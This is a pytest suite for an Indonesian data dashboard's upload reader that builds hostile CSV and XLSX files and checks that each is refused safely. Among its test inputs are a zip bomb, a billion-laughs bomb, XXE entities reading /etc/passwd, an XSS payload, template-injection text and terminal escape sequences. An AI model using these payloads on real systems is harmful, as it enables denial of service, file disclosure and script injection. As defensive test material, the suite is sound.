"""Hostile data files (CSV/XLSX uploads): every one gets a clear message in Indonesian (and the
same message exists in English) at its row and column where it has one, nothing escapes the
reader, the validator or ``python -m loaders import`` as an exception, the work is bounded in time
and in memory (the reading process's peak may grow by at most READ_GROWTH_MB per case, a
high-water mark, so a case after a bigger one is bounded by that one's peak; the bombs are also
run by the command line in a subprocess limited to 1 GiB of address space), and a commit attempt
through the CLI leaves the store byte-for-byte unchanged. Inputs added after the attack run are
here too: office headers (title rows, 16,384 columns, merged ranges), the foreigners dataset,
kecamatan/desa columns, incident coordinates.

The files are built here: workbooks through openpyxl, or as raw zip/XML when they must be
malformed; CSV as bytes. Path traversal in file names and SQL-looking text are in test_hostile.py.
"""

from __future__ import annotations

import hashlib
import io
import os
import resource
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

import config
from cli import main
from domain import validate
from exports import formats
from i18n.catalog import MESSAGES
from loaders import readers, uploads
from storage.backends import open_store
from tests.helpers.files import RISK_COLUMNS, csv_bytes, risk_row

ROOT = Path(__file__).resolve().parents[2]
# CPU seconds (this process and the command line's), not wall time: on a quiet machine a hostile
# file is refused in well under a second, and a loaded machine must not fail the bound by queueing.
TIME_BOUND_S = 20
MEMORY_BOUND = 1 << 30  # RLIMIT_AS for the bomb subprocesses: 1 GiB of address space
SUBPROCESS_TIMEOUT_S = 120
READ_GROWTH_MB = 400  # the defect: 55 MB -> 3.7 GB for a 5 KB workbook

# --- raw workbooks ---------------------------------------------------------------------------

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
       'package/2006/content-types"><Default Extension="rels" ContentType="application/'
       'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
       '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
       'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
       '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
       'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
       '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
         'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
         'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
         'Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?>{prolog}<workbook xmlns="' + _NS + '" '
             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<sheets><sheet name="conflict_risk" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                  'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                  'worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type='
                  '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                  'sharedStrings" Target="sharedStrings.xml"/></Relationships>')


def _istr(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _header_row() -> str:
    from openpyxl.utils import get_column_letter

    return '<row r="1">' + "".join(_istr(f"{get_column_letter(i)}1", name)
                                   for i, name in enumerate(RISK_COLUMNS, start=1)) + "</row>"


def _risk_row_xml(number: int = 2, **cells: str) -> str:
    """A valid conflict_risk row as inline strings; ``cells`` replaces whole <c> elements by
    column name (the raw XML of that cell)."""
    from openpyxl.utils import get_column_letter

    out = []
    for i, (name, value) in enumerate(risk_row().items(), start=1):
        ref = f"{get_column_letter(i)}{number}"
        if name in cells:
            out.append(cells[name].replace("{ref}", ref))
        elif value:
            out.append(_istr(ref, value))
    return f'<row r="{number}">' + "".join(out) + "</row>"


def raw_xlsx(sheet_data: str = "", *, dimension: str = "", sheet_prolog: str = "",
             shared: str = "", workbook_prolog: str = "", extra: dict[str, bytes] | None = None,
             sheet_xml: bytes | None = None, shared_xml: bytes | None = None) -> bytes:
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?>{sheet_prolog}<worksheet xmlns="{_NS}">'
             f'{dimension}<sheetData>{sheet_data}</sheetData></worksheet>').encode()
    strings = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_NS}">{shared}</sst>'
               ).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(prolog=workbook_prolog))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml if sheet_xml is not None else sheet)
        archive.writestr("xl/sharedStrings.xml",
                         shared_xml if shared_xml is not None else strings)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A valid workbook whose sheet unpacks to 300 MB (of blanks between two elements): a few
    hundred KB on disk."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(prolog=""))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<worksheet xmlns="{_NS}"><sheetData>'.encode())
            blank = b" " * (1024 * 1024)
            for _ in range(300):
                sheet.write(blank)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10))
    return raw_xlsx(_header_row(), shared="<si><t>&lol9;</t></si>",
                    sheet_prolog="", extra=None,
                    shared_xml=(f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]>'
                                f'<sst xmlns="{_NS}"><si><t>&lol9;</t></si></sst>').encode())


def deep_shared_string(depth: int = 100_000) -> bytes:
    return raw_xlsx(_header_row(), shared_xml=(
        f'<sst xmlns="{_NS}"><si>' + "<r>" * depth + "<t>x</t>" + "</r>" * depth
        + "</si></sst>").encode())


def openpyxl_workbook(rows: list[list[object]], formulas: dict[str, str] | None = None,
                      title: str = "conflict_risk") -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for ref, formula in (formulas or {}).items():
        sheet[ref] = formula  # openpyxl saves a formula without its value (it cannot calculate)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _risk_values(**overrides: object) -> list[object]:
    row: dict[str, object] = dict(risk_row())
    row.update(overrides)
    return [row[c] for c in RISK_COLUMNS]


def _zip_of(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _many_members() -> bytes:
    base = openpyxl_workbook([RISK_COLUMNS, _risk_values()])
    buffer = io.BytesIO(base)
    with zipfile.ZipFile(buffer, "a") as archive:
        for i in range(readers.MAX_XLSX_MEMBERS + 1):
            archive.writestr(f"customXml/item{i}.bin", b"")
    return buffer.getvalue()


def _utf16_dtd_workbook() -> bytes:
    workbook = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE workbook [<!ENTITY x "y">]>'
                + _WORKBOOK.split("?>", 1)[1].format(prolog=""))
    buffer = io.BytesIO(raw_xlsx(_header_row()))
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/workbook.xml":
                data = workbook.encode("utf-16")
            target.writestr(info.filename, data)
    return out.getvalue()


def _csv(**overrides: str) -> bytes:
    return csv_bytes([risk_row(**overrides)])


def _foreigners(**overrides: str) -> dict[str, str]:
    row = {"kab_kota": "64.72", "periode": "2026-Q3", "orang_asing_bekerja": "12",
           "orang_asing_penelitian": "1", "orang_asing_wisata": "30", "orang_asing_keagamaan": "0",
           "orang_asing_lainnya": "2", "lembaga_asing": "1", "catatan": "",
           "unit_pelapor": "Kesbangpol Samarinda", "tanggal_laporan": "2026-10-05",
           "sumber": "Laporan triwulan"}
    row.update(overrides)
    return row


def _incident(**overrides: str) -> dict[str, str]:
    row = {"tanggal": "2026-09-01", "kab_kota": "64.72", "kecamatan": "", "desa": "",
           "lat": "-0,5", "lon": "117,12", "kategori": "sara", "deskripsi": "Bentrok warga",
           "korban": "0", "sumber": "Polsek", "status_verifikasi": "diverifikasi"}
    row.update(overrides)
    return row


# Enough ordinary text that a few control characters do not make the file look binary.
NOTE = "Pertemuan koordinasi berjalan tertib. " * 30
ESC_CLEAR = "\x1b[2J\x1b[H"
OSC_TITLE = "\x1b]0;DIRETAS\x07"


@dataclass(frozen=True)
class Case:
    dataset: str
    file_name: str
    build: object  # () -> bytes
    message_id: str  # the problem the report must hold
    text_id: str  # a fragment of its Indonesian message
    row: int | None = None
    column: str | None = None
    bomb: bool = False  # run the CLI under the memory limit


CASES: dict[str, Case] = {
    # --- bombs: bounded memory and time -------------------------------------------------------
    "xlsx_declared_dimension_bomb": Case(
        "conflict_risk", "bom.xlsx",
        lambda: raw_xlsx(_header_row() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
                         dimension='<dimension ref="A1:XFD1048576"/>'),
        "read.error.too_many_rows", "batasnya 100.000 baris", bomb=True),
    "xlsx_last_row_in_column_a": Case(
        "conflict_risk", "bom.xlsx",
        lambda: raw_xlsx(_header_row() + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>',
                         dimension='<dimension ref="A1:XFD1048576"/>'),
        "read.error.too_many_rows", "baris 1048576"),
    "xlsx_cell_in_last_column": Case(
        "conflict_risk", "lebar.xlsx",
        lambda: raw_xlsx(_header_row() + '<row r="2"><c r="XFD2"><v>1</v></c></row>',
                         dimension='<dimension ref="A1:XFD2"/>'),
        "read.error.too_many_columns", "kolom ke-16384; batasnya 500 kolom"),
    "xlsx_zip_bomb": Case("conflict_risk", "zip.xlsx", zip_bomb, "read.error.xlsx_unpacked",
                          "membengkak menjadi", bomb=True),
    "xlsx_bloated_styles_part": Case(
        "conflict_risk", "gaya.xlsx",
        lambda: raw_xlsx(_header_row(), extra={"xl/styles.xml": b"<a/>" * (5 * 1024 * 1024)}),
        "read.error.xlsx_unpacked", "xl/styles.xml"),
    "xlsx_too_many_parts": Case("conflict_risk", "bagian.xlsx", _many_members,
                                "read.error.xlsx_members", "bagian di dalam paketnya"),
    "xlsx_shared_string_nested_100000_deep": Case(
        "conflict_risk", "dalam.xlsx", deep_shared_string, "read.error.xlsx_structure",
        "bersarang lebih dari 64 tingkat", bomb=True),
    "xlsx_3_million_empty_rows": Case(
        "conflict_risk", "kosong.xlsx",
        lambda: raw_xlsx(_header_row() + '<row r="2"/>' * 3_000_000),
        "read.error.too_many_rows", "batasnya 100.000 baris", bomb=True),
    "xlsx_one_row_of_a_million_empty_cells": Case(
        "conflict_risk", "kosong.xlsx",
        lambda: raw_xlsx(_header_row() + '<row r="2">' + '<c s="1"/>' * 1_000_000 + "</row>"),
        "read.error.too_many_columns", "kolom ke-16385"),
    "xlsx_cell_with_50000_runs": Case(
        "conflict_risk", "runs.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(
            catatan='<c r="{ref}" t="inlineStr"><is>' + "<r><t>x</t></r>" * 50_000
                    + "</is></c>")),
        "read.error.xlsx_structure", "terlalu banyak unsur"),
    "xlsx_billion_laughs": Case("conflict_risk", "tawa.xlsx", billion_laughs,
                                "read.error.xlsx_dtd", "deklarasi DTD/entitas", bomb=True),
    "xlsx_internal_entity_in_sheet": Case(
        "conflict_risk", "dtd.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(catatan=_istr("{ref}", "&x;")),
                         sheet_prolog='<!DOCTYPE worksheet [<!ENTITY x "isi">]>'),
        "read.error.xlsx_dtd", "xl/worksheets/sheet1.xml"),
    "xlsx_external_entity_in_workbook": Case(
        "conflict_risk", "xxe.xlsx",
        lambda: raw_xlsx(_header_row(), workbook_prolog='<!DOCTYPE workbook [<!ENTITY x SYSTEM '
                                                        '"file:///etc/passwd">]>'),
        "read.error.xlsx_dtd", "xl/workbook.xml"),
    "xlsx_dtd_in_a_part_not_named_xml": Case(
        "conflict_risk", "dat.xlsx",
        lambda: raw_xlsx(_header_row(), extra={
            "xl/data.bin": b'\n  <!DOCTYPE x [<!ENTITY a SYSTEM "http://example.invalid/">]><x/>'}),
        "read.error.xlsx_dtd", "xl/data.bin"),
    "xlsx_shared_strings_part_elsewhere_with_dtd": Case(
        "conflict_risk", "strs.xlsx",
        lambda: raw_xlsx(_header_row(), extra={
            "xl/strs.xml": b'<!DOCTYPE sst [<!ENTITY a "b">]><sst/>'}),
        "read.error.xlsx_dtd", "xl/strs.xml"),
    "xlsx_dtd_in_utf16_part": Case("conflict_risk", "utf16.xlsx", _utf16_dtd_workbook,
                                   "read.error.xlsx_dtd", "Excel tidak pernah menulisnya"),
    "csv_million_columns": Case(
        "conflict_risk", "lebar.csv", lambda: b"a," * 1_000_000 + b"a\r\n",
        "read.error.too_many_columns", "batasnya 500 kolom", bomb=True),
    "csv_20000_empty_delimiters": Case(
        "conflict_risk", "koma.csv",
        lambda: _csv().replace(b"\r\n", b"," * 20_000 + b"\r\n", 1),
        "read.error.too_many_columns", "kolom ke-20011"),
    "csv_row_601_cells": Case(
        "conflict_risk", "baris.csv",
        lambda: _csv() + b",".join([b"x"] * 601) + b"\r\n",
        "read.error.too_many_columns", "Baris 3 berisi data di kolom ke-601"),
    "csv_100002_rows": Case(
        "conflict_risk", "panjang.csv",
        lambda: _csv() + b"64.08\r\n" * (readers.MAX_ROWS + 1),
        "read.error.too_many_rows", "batasnya 100.000 baris"),
    "csv_single_line_5_mb": Case(
        "conflict_risk", "satu.csv", lambda: b"x" * (5 * 1024 * 1024),
        "read.error.csv_cell_too_long_at", "Baris 1, kolom ke-1"),
    # --- cells that used to raise ----------------------------------------------------------
    "csv_cell_over_131072_chars": Case(
        "conflict_risk", "sel.csv", lambda: _csv(catatan="x" * 131_073),
        "read.error.csv_cell_too_long_at", "Baris 2, kolom ke-8: sel berisi 131.073 karakter"),
    "csv_unclosed_quote_runs_on": Case(
        "conflict_risk", "kutip.csv",
        lambda: _csv(catatan="").replace(b"Laporan triwulan", b'"Laporan', 1)
        + b"64.01,,2026-Q3,x\r\n" * 20_000,
        "read.error.csv_cell_too_long_at", "tanda kutip"),
    "xlsx_cell_over_131072_chars": Case(
        "conflict_risk", "sel.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(catatan=_istr("{ref}", "y" * 131_073))),
        "read.error.cell_too_long", "Baris 2, kolom ke-8"),
    "integer_400_digits": Case("conflict_risk", "angka.csv",
                               lambda: _csv(jumlah_kejadian="1" + "0" * 400),
                               "validate.number_too_long", "401 digit", 2, "jumlah_kejadian"),
    "integer_5000_digits": Case("conflict_risk", "angka.csv",
                                lambda: _csv(jumlah_kejadian="9" * 5000),
                                "validate.number_too_long", "5000 digit", 2, "jumlah_kejadian"),
    "integer_23_digits": Case("conflict_risk", "angka.csv",
                              lambda: _csv(jumlah_kejadian="99999999999999999999999"),
                              "validate.number_too_long", "batas 20 digit", 2,
                              "jumlah_kejadian"),
    "integer_past_int64_and_float_precision": Case(
        "conflict_risk", "angka.csv", lambda: _csv(jumlah_kejadian="99999999999999999999"),
        "validate.number_too_large", "di luar jangkauan", 2, "jumlah_kejadian"),
    "decimal_with_400_digits": Case(
        "conflict_risk", "angka.csv", lambda: _csv(skor="1" * 400 + ",5"),
        "validate.number_too_long", "401 digit", 2, "skor"),
    "xlsx_number_of_5000_digits": Case(
        "conflict_risk", "angka.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(
            jumlah_kejadian='<c r="{ref}"><v>' + "9" * 5000 + "</v></c>")),
        "validate.number_too_long", "5000 digit", 2, "jumlah_kejadian"),
    "xlsx_number_1e400": Case(
        "conflict_risk", "angka.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(
            jumlah_kejadian='<c r="{ref}"><v>1e400</v></c>')),
        "validate.not_integer", "bukan bilangan bulat", 2, "jumlah_kejadian"),
    "xlsx_formula_without_value_required": Case(
        "conflict_risk", "rumus.xlsx",
        lambda: openpyxl_workbook([RISK_COLUMNS, _risk_values(skor=None)], {"E2": "=40+2"}),
        "read.cell.formula_no_value", "rumus tanpa nilai tersimpan: buka dan simpan berkas di "
                                      "Excel", 2, "skor"),
    "xlsx_formula_without_value_optional": Case(
        "conflict_risk", "rumus.xlsx",
        lambda: openpyxl_workbook([RISK_COLUMNS, _risk_values(catatan=None)],
                                  {"H2": '=CONCAT("a","b")'}),
        "read.cell.formula_no_value", "rumus tanpa nilai tersimpan", 2, "catatan"),
    "xlsx_shared_string_index_out_of_range": Case(
        "conflict_risk", "rusak.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(
            kab_kota='<c r="{ref}" t="s"><v>99</v></c>'), shared="<si><t>a</t></si>"),
        "read.cell.damaged", "sel ini rusak", 2, "kab_kota"),
    "xlsx_shared_string_index_negative": Case(
        "conflict_risk", "rusak.xlsx",
        lambda: raw_xlsx(_header_row() + _risk_row_xml(
            kab_kota='<c r="{ref}" t="s"><v>-1</v></c>'), shared="<si><t>Paser</t></si>"),
        "read.cell.damaged", "sel ini rusak", 2, "kab_kota"),
    "xlsx_row_number_not_a_number": Case(
        "conflict_risk", "rusak.xlsx",
        lambda: raw_xlsx(_header_row() + '<row r="dua">' + _istr("A2", "64.08") + "</row>"),
        "read.error.not_xlsx", "bukan berkas Excel .xlsx yang sah"),
    "xlsx_malformed_sheet_xml": Case(
        "conflict_risk", "rusak.xlsx",
        lambda: raw_xlsx(sheet_xml=b'<worksheet xmlns="' + _NS.encode() + b'"><sheetData><row>'),
        "read.error.not_xlsx", "bukan berkas Excel .xlsx yang sah"),
    "xlsx_truncated": Case(
        "conflict_risk", "potong.xlsx",
        lambda: openpyxl_workbook([RISK_COLUMNS, _risk_values()])[:3000],
        "read.error.not_xlsx", "rusak atau format lain"),
    # --- escape sequences: shown visibly by the CLI (the assertion is in the test) ------------
    "escape_sequences_in_cells": Case(
        "conflict_risk", "esc.csv",
        lambda: _csv(kab_kota=f"Atlantis{ESC_CLEAR}{OSC_TITLE}", unit_pelapor=ESC_CLEAR,
                     catatan=NOTE),
        "validate.district", "tidak dikenal", 2, "kab_kota"),
    "bidi_override_and_c1_in_cells": Case(
        "conflict_risk", "bidi.csv",
        lambda: _csv(kab_kota="\u202eadniramaS\u202c\x9b2J", catatan=NOTE),
        "validate.district", "tidak dikenal", 2, "kab_kota"),
    # --- the classic kinds ----------------------------------------------------------------
    "utf16_unicode_text": Case(
        "conflict_risk", "unicode.txt",
        lambda: csv_bytes([risk_row(kab_kota="Atlantis")], delimiter="\t", encoding="utf-16"),
        "validate.district", "“Atlantis”", 2, "kab_kota"),
    "latin1_csv": Case("conflict_risk", "latin.csv",
                       lambda: csv_bytes([risk_row(kab_kota="Sãmarindä")], encoding="latin-1"),
                       "read.notice.encoding", "Windows-1252"),
    "utf8_bom_semicolons": Case(
        "conflict_risk", "bom.csv",
        lambda: b"\xef\xbb\xbf" + csv_bytes([risk_row(skor="tinggi")], delimiter=";"),
        "validate.not_number", "bukan angka", 2, "skor"),
    "empty_file": Case("conflict_risk", "kosong.csv", lambda: b"", "validate.empty_file",
                       "Berkas kosong"),
    "only_blanks_and_delimiters": Case("conflict_risk", "kosong.csv",
                                       lambda: b" , ,\r\n,,,\r\n\r\n  \r\n", "validate.empty_file",
                                       "Berkas kosong"),
    "header_only": Case("conflict_risk", "judul.csv", lambda: csv_bytes([], RISK_COLUMNS),
                        "validate.no_rows", "hanya berisi judul kolom"),
    "binary_garbage_named_csv": Case(
        "conflict_risk", "acak.csv", lambda: bytes((i * 73 + 11) % 256 for i in range(20_000)),
        "read.error.binary", "bukan berkas teks CSV"),
    "nul_bytes_in_csv": Case("conflict_risk", "nul.csv",
                             lambda: _csv(catatan="a\x00b").replace(b"\r\n", b"\x00\r\n"),
                             "read.error.binary", "data biner"),
    "xlsx_that_is_really_csv": Case("conflict_risk", "palsu.xlsx", lambda: _csv(),
                                    "read.error.not_xlsx", "bukan berkas Excel .xlsx"),
    "csv_that_is_really_a_zip": Case("conflict_risk", "palsu.csv",
                                     lambda: _zip_of("data.csv", _csv()),
                                     "read.error.not_xlsx", "rusak atau format lain"),
    "legacy_xls_signature": Case(
        "conflict_risk", "lama.xls", lambda: readers.CFB_SIGNATURE + b"\x00" * 4000,
        "read.error.legacy_xls", "berkas Excel lama (.xls)"),
    "duplicate_header_names": Case(
        "conflict_risk", "dobel.csv",
        lambda: _csv().replace(b"sumber\r\n", b"skor\r\n", 1),
        "validate.duplicate_column", "skor"),
    # --- inputs added since the attack run: office headers, foreigners, kecamatan/desa ---------
    "xlsx_title_rows_then_a_16384_column_header": Case(
        "conflict_risk", "kop.xlsx",
        lambda: openpyxl_workbook([["PEMERINTAH KABUPATEN KUTAI TIMUR"], [],
                                   [f"kolom{i}" for i in range(16_384)], _risk_values()]),
        "read.error.too_many_columns", "kolom ke-501; batasnya 500 kolom"),
    "csv_title_row_then_a_16384_column_header": Case(
        "conflict_risk", "kop.csv",
        lambda: b"JUDUL\r\n\r\n" + ",".join(f"kolom{i}" for i in range(16_384)).encode()
        + b"\r\n",
        "read.error.too_many_columns", "kolom ke-16384"),
    "thirty_title_rows_of_400_long_cells": Case(
        "conflict_risk", "kop.csv",
        lambda: b"JUDUL\r\n" + b"\r\n".join(b",".join([b"x" * 1000] * 400) for _ in range(30))
        + b"\r\n" + _csv(),
        "headers.error.none", "Tidak ada baris yang tampak seperti judul kolom"),
    "xlsx_200001_merged_ranges": Case(
        "conflict_risk", "gabung.xlsx",
        lambda: raw_xlsx(sheet_xml=(
            f'<worksheet xmlns="{_NS}"><sheetData>{_header_row()}{_risk_row_xml()}</sheetData>'
            '<mergeCells count="200001">' + "".join(f'<mergeCell ref="A{i}:XFD{i}"/>'
                                                    for i in range(3, 200_004))
            + "</mergeCells></worksheet>").encode()),
        "headers.error.too_many_merges", "200.000 rentang sel gabungan"),
    "foreigners_negative_count": Case(
        "foreigners", "asing.csv", lambda: csv_bytes([_foreigners(orang_asing_bekerja="-5")]),
        "validate.below_minimum", "lebih kecil dari batas bawah 0", 2, "orang_asing_bekerja"),
    "foreigners_count_of_30_digits": Case(
        "foreigners", "asing.csv", lambda: csv_bytes([_foreigners(lembaga_asing="9" * 30)]),
        "validate.number_too_long", "30 digit", 2, "lembaga_asing"),
    "foreigners_escape_sequence_district": Case(
        "foreigners", "asing.csv", lambda: csv_bytes([_foreigners(kab_kota=ESC_CLEAR + "Paser",
                                                                  catatan=NOTE)]),
        "validate.district", "tidak dikenal", 2, "kab_kota"),
    "kecamatan_that_is_html": Case(
        "conflict_risk", "kec.csv",
        lambda: _csv(kecamatan="<img src=x onerror=alert(1)>"),
        "grain.unit", "tidak dikenal sebagai kecamatan", 2, "kecamatan"),
    "kecamatan_of_another_district": Case(
        "conflict_risk", "kec.csv", lambda: _csv(kab_kota="64.72", kecamatan="Sangatta Utara"),
        "grain.unit", "bukan Kota Samarinda", 2, "kecamatan"),
    "desa_of_10000_jinja_characters": Case(
        "conflict_risk", "desa.csv",
        lambda: csv_bytes([risk_row(kecamatan="Sangatta Utara", desa="{{ 7*7 }}" * 1100)],
                          RISK_COLUMNS + ["desa"]),
        "grain.unit", "tidak dikenal", 2, "desa"),
    "incident_latitude_1e308": Case(
        "incidents", "kejadian.csv", lambda: csv_bytes([_incident(lat="1e308")]),
        "validate.not_number", "bukan angka", 2, "lat"),
    "incident_longitude_infinite": Case(
        "incidents", "kejadian.csv", lambda: csv_bytes([_incident(lon="inf")]),
        "validate.not_number", "bukan angka", 2, "lon"),
    "incident_position_in_jakarta": Case(
        "incidents", "kejadian.csv", lambda: csv_bytes([_incident(lat="-6,2", lon="106,8")]),
        "validate.coordinate_out_of_range", "di luar Kalimantan Timur", 2,
        "lat"),
    "mixed_types_in_a_number_column": Case(
        "conflict_risk", "campur.xlsx",
        lambda: openpyxl_workbook([RISK_COLUMNS, _risk_values(jumlah_kejadian=True),
                                   _risk_values(kab_kota="Paser", jumlah_kejadian="empat")]),
        "validate.not_integer", "bukan bilangan bulat", 2, "jumlah_kejadian"),
}


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _codes(report: validate.ValidationReport) -> list[str]:
    return [p.code for p in report.problems]


def _cli_env(data_dir: Path) -> dict[str, str]:
    env = dict(os.environ, DASHBOARD_DATA_DIR=str(data_dir), PYTHONPATH=str(ROOT))
    env.pop("DASHBOARD_DB_URL", None)
    return env


def _limit_memory() -> None:  # runs in the child before exec
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_BOUND, MEMORY_BOUND))


@pytest.fixture(scope="module")
def built() -> dict[str, bytes]:
    return {}


def _content(name: str, built: dict[str, bytes]) -> bytes:
    if name not in built:
        built[name] = CASES[name].build()  # type: ignore[operator]
    return built[name]


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_data_file_gets_a_clear_message_and_changes_nothing(name, built, data_dir,
                                                                    tmp_path, capsys):
    case = CASES[name]
    content = _content(name, built)
    started = _cpu_seconds()
    before_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    # The reader and the validator: a report, never an exception; Indonesian and English.
    reports = {lang: uploads.check_upload(case.dataset, content, case.file_name, lang)
               for lang in ("id", "en")}
    report = reports["id"]
    assert case.message_id in _codes(report), report.text()
    found = [p for p in report.problems if p.code == case.message_id]
    assert any(case.text_id in p.message for p in found), report.text()
    if case.row is not None:
        assert any(p.row == case.row and p.column == case.column for p in found), report.text()
    english = [p for p in reports["en"].problems if p.code == case.message_id]
    assert english and set(MESSAGES[case.message_id]) >= {"id", "en"}
    assert english[0].message != found[0].message  # said in English, not the Indonesian text
    # Memory in this process (the server's): its peak may grow by at most READ_GROWTH_MB while
    # the file is read twice; the bombs are also read by the command line under 1 GiB, below.
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_rss) / 1024
    assert grown_mb < READ_GROWTH_MB, f"the reading process grew by {grown_mb:.0f} MB"
    if case.message_id != "read.notice.encoding":
        assert not report.ok

    # A real commit attempt through the command line: refused, no traceback, control characters
    # shown as escapes, and the store unchanged.
    store = open_store()
    before, history = _sha(store.path), [v.version for v in store.history(case.dataset)]
    path = tmp_path / case.file_name
    path.write_bytes(content)
    if case.bomb:
        result = subprocess.run(
            [sys.executable, "-m", "loaders", "import", case.dataset, str(path), "--user", "t"],
            cwd=ROOT, env=_cli_env(data_dir), capture_output=True, text=True,
            timeout=SUBPROCESS_TIMEOUT_S, preexec_fn=_limit_memory)
        code, out = result.returncode, result.stdout + result.stderr
    else:
        code = main.main(["import", case.dataset, str(path), "--user", "t"])
        captured = capsys.readouterr()
        out = captured.out + captured.err
    assert code == 1, out
    assert "Traceback" not in out and "MemoryError" not in out
    assert "DITOLAK" in out
    assert case.text_id in out or case.text_id.replace("“", "").replace("”", "") in out, out
    assert not any(ch in out for ch in ("\x1b", "\x07", "\x9b", "\u202e")), out
    assert _sha(store.path) == before
    assert [v.version for v in open_store().history(case.dataset)] == history
    assert _cpu_seconds() - started < TIME_BOUND_S


def _cpu_seconds() -> float:
    import resource

    children = resource.getrusage(resource.RUSAGE_CHILDREN)
    return time.process_time() + children.ru_utime + children.ru_stime


def test_the_suite_has_the_cases_the_brief_asks_for():
    assert len(CASES) >= 60
    assert sum(case.bomb for case in CASES.values()) >= 4


def test_escape_sequences_are_written_visibly(data_dir, tmp_path, capsys):
    path = tmp_path / "esc.csv"
    path.write_bytes(CASES["escape_sequences_in_cells"].build())  # type: ignore[operator]
    main.main(["import", "conflict_risk", str(path), "--dry-run"])
    out = capsys.readouterr().out
    assert "Atlantis\\x1b[2J\\x1b[H\\x1b]0;DIRETAS\\x07" in out
    assert "\x1b" not in out and "\x07" not in out
    path.write_bytes(CASES["bidi_override_and_c1_in_cells"].build())  # type: ignore[operator]
    main.main(["import", "conflict_risk", str(path), "--dry-run", "--lang", "en"])
    out = capsys.readouterr().out
    assert "\\u202eadniramaS\\u202c\\x9b2J" in out


def test_a_newline_in_a_cell_cannot_forge_a_report_line(data_dir, tmp_path, capsys):
    path = tmp_path / "baris.csv"
    path.write_bytes(_csv(kab_kota="Atlantis\nOK       semua baik"))
    main.main(["import", "conflict_risk", str(path), "--dry-run"])
    out = capsys.readouterr().out
    assert "Atlantis\\nOK" in out
    assert not any(line.startswith("OK       semua baik") for line in out.splitlines())


def test_formula_without_value_is_not_also_reported_empty():
    content = CASES["xlsx_formula_without_value_required"].build()  # type: ignore[operator]
    report = uploads.check_upload("conflict_risk", content, "rumus.xlsx", "id")
    on_cell = [p for p in report.errors if p.row == 2 and p.column == "skor"]
    assert [p.code for p in on_cell] == ["read.cell.formula_no_value"], report.text()
    assert on_cell[0].value == "=40+2"
    english = uploads.check_upload("conflict_risk", content, "rumus.xlsx", "en")
